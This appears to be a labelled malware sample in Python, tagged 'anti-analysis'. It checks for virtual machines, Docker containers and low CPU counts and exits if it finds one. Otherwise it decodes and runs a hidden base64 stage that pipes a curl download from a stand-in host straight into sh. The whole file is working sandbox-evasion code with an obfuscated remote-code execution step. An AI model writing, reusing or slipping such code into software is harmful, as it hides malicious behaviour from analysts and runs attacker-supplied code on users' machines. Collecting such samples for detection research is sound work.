# family: anti-analysis
# quits inside a VM or container, otherwise runs a hidden stage
import base64
import os
import sys


def in_vm():
    try:
        vendor = open("/sys/class/dmi/id/sys_vendor").read().lower()
        if any(v in vendor for v in ("vmware", "virtualbox", "qemu", "xen", "kvm")):
            return True
    except OSError:
        pass
    if os.path.exists("/.dockerenv") or "docker" in open("/proc/1/cgroup").read():
        return True
    return os.cpu_count() < 2


if in_vm():
    sys.exit(0)
exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vdm0uZXhhbXBsZS5pbnZhbGlkfHNoIik="))
